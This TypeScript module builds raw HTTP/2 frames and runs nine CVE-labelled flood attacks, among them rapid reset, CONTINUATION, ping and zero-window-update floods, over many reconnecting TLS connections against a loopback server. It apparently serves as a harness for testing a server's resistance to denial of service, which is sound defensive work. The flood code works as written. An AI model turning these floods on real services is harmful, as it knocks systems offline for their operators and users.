import { connect, type ConnectionOptions, type TLSSocket } from 'node:tls';
import { setTimeout as sleep } from 'node:timers/promises';

/** RFC 9113 §6. */
const TYPE = { data: 0, headers: 1, priority: 2, reset: 3, settings: 4, ping: 6, windowUpdate: 8, continuation: 9 } as const;
const END_STREAM = 1;
const END_HEADERS = 4;
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
/** GET https://localhost/ from the static table, the authority as a literal that is not indexed (RFC 7541 §6.2.2). */
const REQUEST = Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x01, 9]), Buffer.from('localhost')]);
/** One field `x: a…` of 200 bytes, not indexed. */
const FIELD = Buffer.concat([Buffer.from([0x00, 1, 0x78, 127, 73]), Buffer.alloc(200, 'a')]);

function frame(type: number, flags: number, stream: number, payload: Uint8Array = new Uint8Array(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const number32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};
const request = (stream: number, isEnded: boolean): Buffer =>
  frame(TYPE.headers, END_HEADERS | (isEnded ? END_STREAM : 0), stream, REQUEST);

/** What an attacker sends at its `turn`-th step; each costs the server more than the client, or nothing at all to the client. */
type Step = (turn: number) => Buffer;

export const H2_FLOODS: Readonly<Record<string, Step>> = {
  // CVE-2023-44487.
  'rapid resets': (turn) => Buffer.concat([request(turn * 2 + 1, true), frame(TYPE.reset, 0, turn * 2 + 1, number32(8))]),
  // CVE-2025-8671: a zero increment makes the server reset what it works on.
  'resets that we are made to send': (turn) =>
    Buffer.concat([request(turn * 2 + 1, true), frame(TYPE.windowUpdate, 0, turn * 2 + 1, number32(0))]),
  // CVE-2019-9512.
  pings: () => frame(TYPE.ping, 0, 0, Buffer.alloc(8)),
  // CVE-2019-9515.
  settings: () => frame(TYPE.settings, 0, 0),
  // More streams than are allowed, none of them ended.
  'open streams': (turn) => request(turn * 2 + 1, false),
  // CVE-2024-27316: a head that never ends.
  continuations: (turn) => (turn === 0 ? frame(TYPE.headers, 0, 1, REQUEST) : frame(TYPE.continuation, 0, 1, FIELD)),
  // CVE-2019-9518.
  'empty data': (turn) => (turn === 0 ? request(1, false) : frame(TYPE.data, 0, 1)),
  'window updates': (turn) => (turn === 0 ? request(1, false) : frame(TYPE.windowUpdate, 0, 0, number32(1))),
  // CVE-2019-9513.
  priorities: (turn) => frame(TYPE.priority, 0, (turn % 500) * 2 + 3, Buffer.from([0, 0, 0, 0, turn % 256])),
};

export interface FloodOptions {
  readonly origin: string;
  readonly flood: string;
  readonly connections: number;
  readonly durationMs: number;
  /** A loopback address of its own: one that has flooded is refused for a minute. */
  readonly localAddress?: string;
}

export interface FloodReport {
  readonly opened: number;
  /** Connections that the server ended. */
  readonly ended: number;
  readonly steps: number;
}

const STEPS_AT_ONCE = 50;
const BREATH_MS = 5;
const UNSENT_BYTES_MAX = 262_144;

/** Several connections flood at once; each that is ended comes back, as an attacker would. */
export async function floodH2(options: FloodOptions): Promise<FloodReport> {
  const { origin, flood, connections, durationMs, localAddress = '127.0.0.1' } = options;
  const step = H2_FLOODS[flood];
  if (step === undefined) throw new Error('assertion: a flood of the table');
  const until = performance.now() + durationMs;
  const report = { opened: 0, ended: 0, steps: 0 };
  const attack = async (): Promise<void> => {
    while (performance.now() < until) {
      const socket = await open(Number(new URL(origin).port), localAddress);
      if (socket === null) {
        await sleep(50);
        continue;
      }
      report.opened += 1;
      report.steps += await send(socket, step, until);
      if (performance.now() < until) report.ended += 1;
      socket.destroy();
    }
  };
  await Promise.all(Array.from({ length: connections }, attack));
  return report;
}

/** Sends until the time is up or the server ends the connection; gives the number of steps. */
async function send(socket: TLSSocket, step: Step, until: number): Promise<number> {
  let turn = 0;
  socket.write(Buffer.concat([PREFACE, frame(TYPE.settings, 0, 0)]));
  while (performance.now() < until && !socket.destroyed && !socket.readableEnded) {
    if (socket.writableLength < UNSENT_BYTES_MAX) {
      socket.write(Buffer.concat(Array.from({ length: STEPS_AT_ONCE }, (_, at) => step(turn + at))));
      turn += STEPS_AT_ONCE;
    }
    await sleep(BREATH_MS);
  }
  return turn;
}

function open(port: number, localAddress: string): Promise<TLSSocket | null> {
  return new Promise((done) => {
    // What is not of TLS goes on to net.connect (Node documentation, tls.connect), which the type leaves out.
    const options: ConnectionOptions & { localAddress: string } = {
      host: '127.0.0.1',
      port,
      localAddress,
      servername: 'localhost',
      rejectUnauthorized: false,
      ALPNProtocols: ['h2'],
    };
    const socket = connect(options);
    socket.once('secureConnect', () => done(socket));
    socket.on('error', () => done(null));
    socket.on('end', () => socket.destroy());
    socket.resume();
  });
}
